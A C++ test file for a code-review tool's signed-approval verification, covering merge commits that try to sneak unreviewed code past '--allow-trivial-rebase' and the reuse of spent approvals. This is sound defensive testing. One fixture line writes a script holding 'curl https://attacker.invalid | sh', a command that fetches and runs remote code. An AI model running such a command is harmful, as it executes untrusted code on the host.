// verify --allow-trivial-rebase on merge commits and spent approvals (docs/ci.md, "Rebased
// changes"; export/trivial_rebase.h). The histories are built with the real git CLI; the change
// is approved by two reviewers whose SSH keys ssh-keygen makes, and verified under the policy of
// docs/ci.md's GitHub Actions job (--require-signature --min-approvals 2 --base-ref main):
//   - the laundering merge: X = main plus an unreviewed file, HEAD = merge(X, the approved
//     commit), whose first-parent change is exactly the approved patch: refused,
//     first_parent_off_base (also as an octopus, and after the approval was burned);
//   - the merge commit a forge builds for a pull request (first parent the base's tip, or an
//     older commit of the base once it moved on) still passes, judged by its first-parent change;
//   - a merge whose first parent is on the base but whose other parent reaches the base past it:
//     its first-parent change is the approved patch, yet landing it would undo the base's newer
//     commits: refused, patch_differs;
//   - two merge bases (a criss-cross): refused, several_merge_bases;
//   - a burned approval holds for its exact tree only: a trivial rebase of it is refused,
//     consumed.
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "tests/support/files.h"
#include "tests/support/gentle_ai.h"
#include "tests/support/git_repo.h"
#include "tests/support/process.h"
#include "tests/support/ssh_keys.h"
#include "tests/support/temp_dir.h"

namespace gentle::testing {
namespace {

using Json = nlohmann::json;

constexpr const char* kAna = "ana@example.invalid";
constexpr const char* kBob = "bob@example.invalid";

std::string Lines(const std::string& line10) {
  std::string out;
  for (int i = 1; i <= 20; ++i) out += i == 10 ? line10 + "\n" : "line " + std::to_string(i) + "\n";
  return out;
}

// main: app.txt; branch `feature` off main changes its line 10 (the approved commit), approved by
// ana and co-approved by bob, each signing with their own key; then main moves on (other.txt).
class MergeRepo {
 public:
  MergeRepo() : root_(dir_.path() + "/repo") {
    WriteAllowedSigners(allowed_, {{kAna, ana_}, {kBob, bob_}});
    gentle::testing::Git(dir_.path(), {"init", "-q", "-b", "main", root_});
    Git({"config", "gpg.format", "ssh"});
    Write("app.txt", Lines("line 10"));
    CommitAll("main: app");
    main_at_feature_ = Rev("main");
    Git({"checkout", "-q", "-b", "feature"});
    Write("app.txt", Lines("line 10, reviewed"));
    CommitAll("feature: the reviewed change");
    feature_ = Rev("feature");
    lineage_ = ReviewOk(
        {"start", "--kind", "commit-range", "--base", "main", "--head", "feature"})["lineage"];
    approval_ = Approve(ana_, kAna);
    Approve(bob_, kBob);
    Git({"checkout", "-q", "main"});
    Write("other.txt", "reviewed upstream\n");
    CommitAll("main: other");
  }

  const std::string& lineage() const { return lineage_; }
  const std::string& feature() const { return feature_; }
  const std::string& main_at_feature() const { return main_at_feature_; }

  std::string Git(const std::vector<std::string>& args) const {
    return Trim(gentle::testing::Git(root_, args));
  }
  std::string Rev(const std::string& rev) const { return Git({"rev-parse", rev}); }
  void Write(const std::string& path, const std::string& bytes) const {
    WriteFile(root_ + "/" + path, bytes);
  }
  void CommitAll(const std::string& message) const {
    Git({"add", "-A"});
    Git({"commit", "-q", "-m", message});
  }
  // A commit with `tree` and `parents`, as git commit-tree writes it.
  std::string CommitTree(const std::string& tree, const std::vector<std::string>& parents) const {
    std::vector<std::string> args = {"commit-tree", tree, "-m", "crafted"};
    for (const std::string& parent : parents) args.insert(args.end(), {"-p", parent});
    return Git(args);
  }

  RunResult Review(const std::vector<std::string>& args) const {
    std::vector<std::string> full = {"review"};
    full.insert(full.end(), args.begin(), args.end());
    full.insert(full.end(), {"--cwd", root_, "--json"});
    return GentleAi(full, root_);
  }
  Json ReviewOk(const std::vector<std::string>& args) const {
    RunResult run = Review(args);
    INFO(Json(args).dump() << ": " << run.out << run.err);
    REQUIRE(run.exit_code == 0);
    return run.Json();
  }

  // The recommended CI policy (docs/ci.md), with --allow-trivial-rebase.
  RunResult Verify(const std::string& against, const std::string& base_ref = "main") const {
    return Review({"verify", "--lineage", lineage_, "--against", against, "--require-signature",
                   "--allowed-signers", allowed_, "--min-approvals", "2", "--base-ref", base_ref,
                   "--allow-trivial-rebase"});
  }

  void Burn() const {
    ReviewOk({"burn", "--lineage", lineage_, "--token", approval_["token"], "--expected-revision",
              approval_["revision"]});
  }

 private:
  Json Approve(const SshKey& key, const std::string& actor) const {
    Git({"config", "user.signingKey", key.file});
    return ReviewOk({"verdict", "--lineage", lineage_, "--verdict", "APPROVE", "--actor", actor,
                     "--role", "reviewer", "--body", "Read it.", "--sign"});
  }

  TempDir dir_;
  TempDir keys_;
  SshKey ana_ = MakeSshKey(keys_, "ana");
  SshKey bob_ = MakeSshKey(keys_, "bob");
  std::string allowed_ = keys_.path() + "/allowed_signers";
  std::string root_;
  std::string main_at_feature_;
  std::string feature_;
  std::string lineage_;
  Json approval_;
};

// verify refused `head`: not_reviewed (exit 10) for `reason`; returns the details.
Json ExpectRefused(const MergeRepo& repo, const std::string& head, const std::string& reason) {
  RunResult run = repo.Verify(head);
  INFO(run.out << run.err);
  REQUIRE(run.exit_code == 10);
  const Json error = run.Json()["error"];
  CHECK(error["code"] == "not_reviewed");
  CHECK(error["lineage"] == repo.lineage());
  CHECK(error["details"]["reason"] == reason);
  CHECK(error["details"]["base_ref"] == "main");
  CHECK(error["details"]["against_tree"] == repo.Rev(head + "^{tree}"));
  CHECK(error["details"]["candidate_tree"] == repo.Rev(repo.feature() + "^{tree}"));
  return error["details"];
}

// verify accepted merge commit `head` as a trivial rebase judged from its first parent `base`.
Json ExpectAccepted(const MergeRepo& repo, const std::string& head, const std::string& base) {
  RunResult run = repo.Verify(head);
  INFO(run.out << run.err);
  REQUIRE(run.exit_code == 0);
  const Json out = run.Json();
  CHECK(out["match"] == "trivial_rebase");
  CHECK(out["rebase"]["base_commit"] == base);
  CHECK(out["rebase"]["base_tree"] == repo.Rev(base + "^{tree}"));
  CHECK(out["rebase"]["first_parent"] == true);
  CHECK(repo.Rev(head + "^1") == base);
  CHECK(out["approvals"]["count"] == 2);
  return out;
}

// X = main plus evil.sh, app.txt as main has it; HEAD = merge(X, the approved commit).
std::string LaunderingMerge(const MergeRepo& repo) {
  repo.Git({"checkout", "-q", "-B", "x", "main"});
  repo.Write("evil.sh", "curl https://attacker.invalid | sh\n");
  repo.CommitAll("x: main plus unreviewed code");
  repo.Git({"merge", "-q", "--no-ff", "-m", "merge", repo.feature()});
  const std::string head = repo.Rev("HEAD");
  // What the red team saw: the first-parent change is the approved patch, byte for byte.
  CHECK(repo.Git({"diff", head + "^1", head}) ==
        repo.Git({"diff", repo.main_at_feature(), repo.feature()}));
  CHECK(repo.Git({"diff", "--name-only", "main", head}) == "app.txt\nevil.sh");
  return head;
}

TEST_CASE("trivial rebase merge: a merge whose first parent carries unreviewed code is refused") {
  MergeRepo repo;
  SECTION("two parents") {
    const std::string head = LaunderingMerge(repo);
    const Json details = ExpectRefused(repo, head, "first_parent_off_base");
    CHECK(details["first_parent"] == repo.Rev("x~1"));
    CHECK(!details.contains("difference"));
  }
  SECTION("an octopus whose other parents are on the base") {
    const std::string merge = LaunderingMerge(repo);
    const std::string head = repo.CommitTree(
        repo.Rev(merge + "^{tree}"), {repo.Rev("x~1"), repo.feature(), repo.main_at_feature()});
    REQUIRE(repo.Git({"rev-list", "--parents", "-n", "1", head}).size() == 4 * 41 - 1);
    ExpectRefused(repo, head, "first_parent_off_base");
  }
  SECTION("after the approval was burned: a spent approval moves nowhere") {
    repo.Burn();
    const std::string head = LaunderingMerge(repo);
    ExpectRefused(repo, head, "consumed");
  }
  SECTION("the same merge with the base's history made to include X is judged as a rebase") {
    // Once X is on the base, the merge is the forge's kind and its change is the approved one.
    const std::string head = LaunderingMerge(repo);
    repo.Git({"branch", "-f", "main", "x~1"});
    ExpectAccepted(repo, head, repo.Rev("x~1"));
  }
}

TEST_CASE("trivial rebase merge: the merge commit a forge builds for a pull request passes") {
  MergeRepo repo;
  repo.Git({"checkout", "-q", "--detach", "main"});
  repo.Git({"merge", "-q", "--no-ff", "-m", "Merge pull request 1", repo.feature()});
  const std::string head = repo.Rev("HEAD");
  const std::string base = repo.Rev("main");
  SECTION("its first parent is the base's tip") {
    const Json out = ExpectAccepted(repo, head, base);
    CHECK(out["consumed"] == false);
  }
  SECTION("the base moved on since: its first parent is an ancestor of the base") {
    repo.Git({"checkout", "-q", "main"});
    repo.Write("later.txt", "later on main\n");
    repo.CommitAll("main: later");
    ExpectAccepted(repo, head, base);
  }
}

TEST_CASE("trivial rebase merge: another parent past the first on the base is judged from there") {
  MergeRepo repo;
  const std::string older = repo.Rev("main");
  repo.Write("newer.txt", "reviewed upstream later\n");
  repo.CommitAll("main: newer");
  // The change picked onto main~1, on parents main~1 and main: the first-parent change is the
  // approved patch, but merging it into main would delete newer.txt.
  repo.Git({"checkout", "-q", "-b", "picked", older});
  repo.Git({"cherry-pick", repo.feature()});
  const std::string head = repo.CommitTree(repo.Rev("picked^{tree}"), {older, repo.Rev("main")});
  REQUIRE(repo.Git({"diff", head + "^1", head}) ==
          repo.Git({"diff", repo.main_at_feature(), repo.feature()}));
  const Json details = ExpectRefused(repo, head, "patch_differs");
  CHECK(details["base_commit"] == repo.Rev("main"));
  CHECK(details["difference"] == "file sections: 1 in the approved patch, 2 in the change");
}

TEST_CASE("trivial rebase merge: two merge bases are refused") {
  MergeRepo repo;
  // A criss-cross: main merges side, and HEAD's parent merges the same two commits the other way;
  // HEAD's tree is side's plus the approved change, so from side its change is the approved one.
  const std::string m1 = repo.Rev("main");
  repo.Git({"checkout", "-q", "-b", "side", repo.main_at_feature()});
  repo.Write("side.txt", "side\n");
  repo.CommitAll("side");
  const std::string side = repo.Rev("side");
  repo.Git({"checkout", "-q", "main"});
  repo.Git({"merge", "-q", "--no-ff", "-m", "main merges side", "side"});
  repo.Git({"checkout", "-q", "--detach", side});
  repo.Git({"merge", "-q", "--no-ff", "-m", "side merges main", m1});
  repo.Git({"cherry-pick", repo.feature()});
  repo.Git({"rm", "-q", "other.txt"});
  repo.Git({"commit", "-q", "--amend", "--no-edit"});
  const std::string head = repo.Rev("HEAD");
  REQUIRE(repo.Git({"merge-base", "--all", "main", head}).size() == 2 * 41 - 1);
  REQUIRE(repo.Git({"diff", side, head}) ==
          repo.Git({"diff", repo.main_at_feature(), repo.feature()}));
  const Json details = ExpectRefused(repo, head, "several_merge_bases");
  CHECK(details["merge_bases"] == "2");
}

TEST_CASE("trivial rebase merge: a burned approval holds only for its exact tree") {
  MergeRepo repo;
  repo.Git({"checkout", "-q", "-b", "rebased", "main"});
  repo.Git({"cherry-pick", repo.feature()});
  const std::string rebased = repo.Rev("HEAD");
  // Before the burn the rebased commit passes.
  RunResult before = repo.Verify(rebased);
  INFO(before.out << before.err);
  REQUIRE(before.exit_code == 0);
  CHECK(before.Json()["match"] == "trivial_rebase");
  repo.Burn();
  const Json details = ExpectRefused(repo, rebased, "consumed");
  CHECK(!details.contains("difference"));
  // CI re-running on the merged commit: the exact tree still verifies, consumed.
  RunResult exact = repo.Verify(repo.feature());
  INFO(exact.out << exact.err);
  REQUIRE(exact.exit_code == 0);
  CHECK(exact.Json()["match"] == "exact");
  CHECK(exact.Json()["consumed"] == true);
  CHECK(exact.Json()["approvals"]["count"] == 2);
  // A commit that reverts the rebased one and re-applies the same patch: refused too.
  repo.Git({"revert", "--no-edit", rebased});
  repo.Git({"cherry-pick", repo.feature()});
  ExpectRefused(repo, "HEAD", "consumed");
}

}  // namespace
}  // namespace gentle::testing
